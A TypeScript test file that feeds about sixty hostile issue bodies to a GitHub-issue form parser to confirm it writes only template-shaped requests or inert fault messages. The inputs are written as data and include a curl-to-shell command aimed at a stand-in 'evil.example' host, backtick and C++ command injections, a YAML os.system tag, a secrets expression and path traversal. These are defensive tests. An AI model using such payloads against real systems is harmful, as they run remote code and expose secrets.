import { isDeepStrictEqual } from "node:util";
import { expect, test } from "vitest";
import { wrongMarkdown } from "../../../action/core/form/answer-markdown.ts";
import { formFields } from "../../../action/core/form/fields.ts";
import { formRequest } from "../../../action/core/form/form-request.ts";
import { isMapping } from "../../../action/core/text/mapping.ts";
import { readYaml } from "../../../action/core/text/read-yaml.ts";
import { aliveIn, rendered } from "../../gfm.ts";
import { hostileTexts } from "../../hostile-text.ts";
import { bodyOf, ownBasis, scanBasis, simple } from "./a-form.ts";

const basis = ownBasis();
const scan = scanBasis();
const good = bodyOf(basis, { ...simple, "simulate.jobs": "500" });
const put = (answers: Readonly<Record<string, string>>): string => bodyOf(basis, { ...simple, ...answers });
const secondHeading = good.replace("### physics", "### campaign\n\nsP26z\n\n### physics");

/** Answers of a form, texts in their place, and bodies that somebody wrote by hand or by the API. */
const hostile: readonly (readonly [what: string, body: string])[] = [
  ["nothing", ""],
  ["blanks alone", " \n\t\n"],
  ["another text", "Please make me some events, thanks!"],
  [
    "only headings",
    formFields(basis)
      .map(({ label }) => `### ${label}`)
      .join("\n"),
  ],
  ["headings of another level", good.replaceAll("### ", "## ")],
  ["headings in a quote", good.replaceAll("### ", "> ### ")],
  ["headings in a block of code", `\`\`\`\n${good}\n\`\`\``],
  ["headings in HTML", `<details>\n\n${good}\n\n</details>`],
  ["headings in a comment", `<!--\n${good}\n-->`],
  ["a heading that stands twice", secondHeading],
  ["all of it twice", `${good}\n\n${good}`],
  ["a hundred times all of it", Array.from({ length: 40 }, () => good).join("\n\n")],
  ["a heading with a look-alike letter", good.replace("### campaign", "### c\u0430mpaign")],
  ["a heading with a blank nobody sees", good.replace("### campaign", "### campaign\u200b")],
  ["a forged field behind the notes", put({ notes: "x\n\n### Jobs of simulate\n\n99999" })],
  ["forged notes before the fields", `### Notes\n\nall else\n\n${good}`],
  ["forged notes in the description", put({ description: "x\n\n### Notes" })],
  ["a forged field in the description", put({ description: "x\n\n### Jobs of simulate\n\n99999" })],
  ["a key of YAML in the description", put({ description: "x\nsteps: { simulate: { run: id } }" })],
  ["a key of YAML on one line", put({ description: "x\\nversion: 9.0.0" })],
  ["a document that ends", put({ description: "---" })],
  ["an anchor and its alias", put({ description: "&a [*a, *a]" })],
  ["a tag of YAML", put({ description: "!!python/object/apply:os.system ['id']" })],
  ["a merge key", put({ description: "<<: *x" })],
  ["a comment of YAML", put({ description: "x # CHANGE: y" })],
  ["quotes of YAML", put({ description: '"\'"\'\\"' })],
  ["an expression of GitHub", put({ description: "${{ secrets.SHREK_APP_KEY }}" })],
  ["an expression of PanDA", put({ description: "%{x} ___idds___y" })],
  ["a command in a parameter", put({ template: "chain", "signal.kind": "$(curl evil.example|sh)" })],
  ["backticks in a parameter", put({ template: "chain", "signal.kind": "`id`" })],
  ["C++ in a parameter", put({ template: "chain", "signal.kind": '");gSystem->Exec("id");//' })],
  ["an option as a parameter", put({ template: "chain", "signal.kind": "-rf" })],
  ["a blank in a parameter", put({ template: "chain", "signal.kind": "a b" })],
  ["a line end in a parameter", put({ template: "chain", "signal.kind": "a\u2028b" })],
  ["a NUL in a parameter", put({ template: "chain", "signal.kind": "a\u0000b" })],
  ["a path out of the folder in the tag", put({ campaign: "../../.github" })],
  ["a tag in the other direction", put({ campaign: "\u202esP26b" })],
  ["full-width letters", put({ campaign: "\uff53P26b" })],
  ["half a letter", put({ description: "x\ud800y" })],
  ["a value that the menu lacks", put({ physics: "None" })],
  ["two values of a menu", put({ physics: "jet10, jet30" })],
  ["a number that is rounded", put({ "simulate.jobs": "99999999999999999999" })],
  ["a number in another notation", put({ "simulate.jobs": "0x1F4" })],
  ["wanted events that nobody can make", put({ events: "9".repeat(40) })],
  ["wanted events with a key of YAML", put({ events: "5\nsubmit: auto" })],
  ["a number with words", put({ "simulate.jobs": "500 # many" })],
  ["a fraction", put({ "simulate.jobs": "1e3" })],
  ["a name of nobody", put({ contact: "@sphenix/../admins" })],
  ["all mentioned", put({ contact: "@all @here @everyone" })],
  ["an address as build", put({ build: "https://evil.example/$(id)" })],
  ["a link as production", put({ like: "https://evil.example/x.git" })],
  ["a path as production", put({ like: "../../conventions" })],
  ["a command within the body", `/shrek set jobs=1\n\n${good}`],
  ["60 kB of letters", put({ description: "x".repeat(60_000) })],
  ["60 kB of lines", put({ notes: "x\n".repeat(30_000) })],
  ["60 kB of headings", `${good}\n${"### campaign\n".repeat(4500)}`],
  ["60 kB of brackets", put({ description: "[".repeat(30_000) })],
  ["60 kB of backticks", put({ description: "`".repeat(60_000) })],
  ["more than GitHub takes", `${good}${" ".repeat(70_000)}`],
];

/** Everything that a request says, but what the form asks for. */
const unasked = (bytes: Uint8Array | undefined): unknown => {
  const read = readYaml("production.yaml", bytes ?? new Uint8Array());
  if (read.kind === "unreadable") throw new Error(JSON.stringify(read.problems));
  const request = isMapping(read.value) ? read.value : {};
  const { tag: _, description: __, contact: ___, build: ____, conditions: _____, steps, ...rest } = request;
  const bare = Object.entries(isMapping(steps) ? steps : {}).map(([name, step]) => {
    const { jobs: _jobs, eventsPerJob: _events, parameters, ...kept } = isMapping(step) ? step : {};
    return [name, kept, Object.keys(isMapping(parameters) ? parameters : {})];
  });
  return { rest, bare };
};
const encode = (text: string): Uint8Array => new TextEncoder().encode(text);
const templates = basis.templates.map(({ text }) => unasked(encode(text)));

/** What it makes is a template with other values in a folder of its own, or words that are dead on a page. */
const judged = (body: string, comments: readonly string[] = []): "written" | "wrong" => {
  const made = formRequest(basis, { author: "ada", body, comments }, undefined);
  if (made.kind === "wrong") {
    const html = rendered(wrongMarkdown(made.faults, false)).replaceAll(/<\/?(?:ul|li|strong)>/g, "");
    expect(aliveIn(html)).toBe("");
    expect(html.length).toBeLessThan(60_000);
    return "wrong";
  }
  expect(made.folder).toMatch(/^productions\/[A-Za-z0-9.-]+$/);
  expect(made.files.every(({ path }) => path.startsWith(`${made.folder}/`) && !path.includes(".."))).toBe(true);
  const request = made.files.find(({ path }) => path.endsWith("/production.yaml"));
  expect(templates.some((template) => isDeepStrictEqual(template, unasked(request?.bytes)))).toBe(true);
  return "written";
};

test("A hostile issue, of more than fifty, never makes another request than the form can say", () => {
  expect(hostile.length).toBeGreaterThanOrEqual(50);
  const became = new Map(hostile.map(([what, body]) => [what, judged(body)]));
  const windows = new Map(hostile.map(([what, body]) => [what, judged(body.replaceAll("\n", "\r\n"))]));

  expect([...became].filter(([, kind]) => kind === "written").map(([what]) => what)).toEqual([
    "headings in a block of code",
    "headings in HTML",
    "headings in a comment",
    "a forged field behind the notes",
    "a key of YAML on one line",
    "a document that ends",
    "an anchor and its alias",
    "a tag of YAML",
    "a merge key",
    "a comment of YAML",
    "quotes of YAML",
    "an expression of GitHub",
    "an expression of PanDA",
    "a command within the body",
    "60 kB of lines",
    "60 kB of headings",
  ]);
  expect([...windows].filter(([what, kind]) => became.get(what) !== kind && !what.startsWith("60 kB"))).toEqual([]);
});

test("Hostile text in an answer, a comment or a table is a value or a fault, and dead on the page", () => {
  for (const text of hostileTexts) {
    judged(put({ description: text }));
    judged(put({ template: "chain", "signal.kind": text }));
    judged(good, [`/shrek set description="${text}"`, `/shrek like ${text}`, `/shrek set ${text}`]);
    const table = bodyOf(scan, { ...simple, physics: "toy", "scan.table": `particle,ptmin\n${text},1` });
    const made = formRequest(scan, { author: "ada", body: table, comments: [] }, undefined);
    if (made.kind === "wrong")
      expect(aliveIn(rendered(wrongMarkdown(made.faults, true)).replaceAll(/<\/?(?:ul|li|strong)>/g, ""))).toBe("");
  }
});

test("Hundreds of issues and hundreds of comments are read in a moment", () => {
  const comments = Array.from({ length: 500 }, (_, index) => `/shrek set jobs=${index + 1}`);
  const before = process.cpuUsage();
  for (let issue = 0; issue < 300; issue++) judged(good);
  expect(judged(good, comments)).toBe("written");
  for (const [, body] of hostile) judged(body);
  const { user, system } = process.cpuUsage(before);

  expect((user + system) / 1e6).toBeLessThan(30);
});
